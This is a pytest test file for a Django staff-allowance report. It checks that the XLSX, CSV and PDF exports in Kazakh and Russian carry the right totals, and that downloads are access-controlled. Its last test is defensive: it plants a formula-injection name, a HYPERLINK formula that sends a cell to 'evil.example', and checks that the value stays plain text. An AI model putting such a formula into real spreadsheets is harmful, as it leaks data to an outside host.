"""Downloads of the report: XLSX with the right totals, CSV, PDF in Kazakh and Russian, charts."""
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from staff import charts, exports, services
from staff.reports import Period, build_report

from .factories import make_member

pytestmark = pytest.mark.django_db

D = Decimal


@pytest.fixture
def report_data(adam, rural_archive, city_archive, specialist, rule):
    make_member(archive=rural_archive, position=specialist, base_salary="200000", last_name="Әбілқасымова")
    make_member(archive=rural_archive, position=specialist, base_salary="100.10")           # 25.03 (half-up)
    member = make_member(archive=rural_archive, position=specialist, base_salary="180000", rate="0.5")
    services.salary_set(actor=adam, member=member, valid_from=dt.date(2025, 3, 16), base_salary=D("200000"))
    # 22,500 × 15/31 = 10,887.10; 25,000 × 16/31 = 12,903.23
    services.archive_rural_status_set(actor=adam, archive=city_archive, is_rural=True, valid_from=dt.date(2025, 3, 21))
    make_member(archive=city_archive, position=specialist, base_salary="310000")               # 77,500 × 11/31 = 27,500.00
    return build_report(user=adam, period=Period(2025, 3))


EXPECTED_TOTAL = D("50000.00") + D("25.03") + D("10887.10") + D("12903.23") + D("27500.00")


def test_expected_total(report_data):
    assert report_data.total == EXPECTED_TOTAL


def _sheet_rows(ws):
    return [row for row in ws.iter_rows(values_only=True)]


def test_xlsx_opens_and_has_the_right_totals(report_data):
    with translation.override("ru"):
        body = exports.report_xlsx(report_data)
    wb = load_workbook(io.BytesIO(body))
    assert len(wb.sheetnames) == 5
    summary, by_archive, by_month, entitled, lines = (wb[name] for name in wb.sheetnames)
    assert D(str(summary["B4"].value)) == EXPECTED_TOTAL
    line_rows = _sheet_rows(lines)
    assert line_rows[0][-1] == "Сумма"
    body_rows, total_row = line_rows[1:-1], line_rows[-1]
    assert len(body_rows) == len(report_data.lines) == 5
    assert D(str(total_row[-1])) == EXPECTED_TOTAL
    assert sum(D(str(r[-1])) for r in body_rows) == EXPECTED_TOTAL
    # Each line keeps its inputs: base, days, days in month, rate, percent.
    first = body_rows[0]  # lines come by archive code: C1 first, rural from the 21st
    assert (first[3], D(str(first[9])), first[10], first[11], D(str(first[12])), D(str(first[13])),
            D(str(first[15]))) == ("C1", D("310000"), 11, 31, D("1"), D("25"), D("27500"))
    archive_rows = _sheet_rows(by_archive)[1:]
    assert D(str(archive_rows[-1][5])) == EXPECTED_TOTAL
    assert sum(D(str(r[5])) for r in archive_rows[:-1]) == EXPECTED_TOTAL
    assert D(str(_sheet_rows(entitled)[-1][6])) == EXPECTED_TOTAL
    assert [r[0] for r in _sheet_rows(by_month)[1:]] == ["2025-01", "2025-02", "2025-03"]


def test_xlsx_in_kazakh(report_data):
    with translation.override("kk"):
        body = exports.report_xlsx(report_data)
    wb = load_workbook(io.BytesIO(body))
    lines = wb[wb.sheetnames[-1]]
    assert lines.cell(row=1, column=16).value == "Сомасы"
    assert "Әбілқасымова Айгуль" in {c.value for c in lines["B"]}


def test_csv_has_every_line_and_the_total(report_data):
    body = exports.report_csv(report_data)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    header, lines, total = rows[0], rows[1:-1], rows[-1]
    assert header[-1] in ("Amount", "Сумма", "Сомасы")
    assert len(lines) == 5
    assert sum(D(r[-1]) for r in lines) == D(total[-1]) == EXPECTED_TOTAL
    assert {r[-1] for r in lines} >= {"25.03", "10887.10", "12903.23"}


@pytest.mark.parametrize("lang", ["kk", "ru"])
def test_pdf_in_kazakh_and_russian(report_data, lang):
    with translation.override(lang):
        body = exports.report_pdf(report_data)
    assert body.startswith(b"%PDF")
    assert b"DejaVu" in body  # the Unicode font is embedded, so Kazakh letters render
    assert len(body) > 20_000  # both charts are in it


def test_charts_are_png(report_data):
    for png in (charts.region_chart(report_data), charts.month_chart(report_data)):
        assert png.startswith(b"\x89PNG")
    assert charts.data_uri(b"x").startswith("data:image/png;base64,")


def test_empty_report_exports(adam, rule):
    report = build_report(user=adam, period=Period(2025, 3))
    assert report.total == 0 and report.lines == []
    assert exports.report_pdf(report).startswith(b"%PDF")
    assert load_workbook(io.BytesIO(exports.report_xlsx(report)))
    assert charts.region_chart(report).startswith(b"\x89PNG")


@pytest.mark.parametrize(("fmt", "ctype", "magic"), [
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK"),
    ("csv", "text/csv; charset=utf-8", "\ufeff".encode()),
    ("pdf", "application/pdf", b"%PDF"),
])
def test_download_view(web_client, adam, report_data, fmt, ctype, magic):
    url = reverse("staff:report_download") + f"?period=month&month=2025-03&format={fmt}&lang=kk"
    response = web_client(adam).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == ctype
    assert response.content.startswith(magic)
    assert f"allowances-2025-03-national-kk.{fmt}" in response["Content-Disposition"]


def test_download_xlsx_of_a_year_for_one_region(web_client, adam, report_data, north):
    url = reverse("staff:report_download") + f"?period=year&year=2025&region={north.pk}&format=xlsx&lang=ru"
    response = web_client(adam).get(url)
    wb = load_workbook(io.BytesIO(response.content))
    total = _sheet_rows(wb[wb.sheetnames[-1]])[-1][-1]
    # North holds only the rural archive R1; the year is its March figure times the months of the year.
    year = build_report(user=adam, period=Period(2025), region=north)
    assert D(str(total)) == year.total == sum(ln.amount for ln in year.lines)


def test_download_rejects_bad_parameters_and_foreign_places(web_client, nadia, adam, report_data, city_archive):
    assert web_client(adam).get(reverse("staff:report_download") + "?month=2025-99&format=csv").status_code == 400
    assert web_client(adam).get(reverse("staff:report_download") + "?month=2025-03&format=doc").status_code == 400
    foreign = reverse("staff:report_download") + f"?month=2025-03&format=csv&archive={city_archive.pk}"
    assert web_client(nadia).get(foreign).status_code == 404


def test_text_typed_by_administrators_never_becomes_a_formula(adam, rural_archive, specialist, rule):
    """A name such as =HYPERLINK(...) stays text in the CSV and the XLSX (no formula injection)."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_member(archive=rural_archive, position=specialist, last_name=evil, first_name="+7 701")
    report = build_report(user=adam, period=Period(2025, 3))

    rows = list(csv.reader(io.StringIO(exports.report_csv(report).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + evil + " +7 701"
    assert rows[1][-1] == "50000.00"  # numbers stay numbers

    wb = load_workbook(io.BytesIO(exports.report_xlsx(report)))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(cells) == 2  # the entitled-staff sheet and the lines sheet
    assert {c.data_type for c in cells} == {"s"}
    assert {c.value for c in cells} == {evil + " +7 701"}
